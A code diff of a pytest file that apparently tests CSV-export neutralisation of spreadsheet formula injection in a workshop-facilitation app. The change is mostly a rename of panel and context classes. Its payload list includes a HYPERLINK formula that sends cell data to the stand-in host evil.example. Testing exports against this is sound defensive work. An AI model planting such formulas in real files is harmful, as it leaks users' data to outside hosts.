@@ -20,7 +20,7 @@ from pathlib import Path
 import pytest
 import yaml
 
-from facilitate.activities.alignment.display import AlignmentPanel
+from facilitate.activities.alignment.controls import AlignmentControls
 from facilitate.activities.alignment.events import PracticeAdded, PracticeRated
 from facilitate.activities.alignment.participant import AlignmentActivity
 from facilitate.activities.checkin.events import CheckinAnswered
@@ -31,7 +31,7 @@ from facilitate.core.paths import content_dir
 from facilitate.core.sessions import create_session
 from facilitate.export import export_session
 from facilitate.export.csv_file import FORMULA_STARTS, neutralise, write_table
-from facilitate.ui.contexts import DisplayContext, ParticipantContext
+from facilitate.ui.contexts import ControlsContext, ParticipantContext
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
@@ -123,11 +123,11 @@ def hostile_content(tmp_path, monkeypatch):
 def seed(store, session) -> None:
     """k people answer everything, with payloads wherever a person types."""
     code = session.code
-    panel = AlignmentPanel(DisplayContext(store, session))
-    panel.new_label.value = PAYLOADS[0]
-    panel.add_practice()
+    controls = AlignmentControls(ControlsContext(store, session))
+    controls.new_label.value = PAYLOADS[0]
+    controls.add_practice()
     added = store.read(code, kinds=[PracticeAdded.kind])
-    assert added, panel.form_message.value
+    assert added, controls.form_message.value
     practices = [added[0].event.practice, "letter_grades"]
     for index in range(6):
         who = f"p{index}"
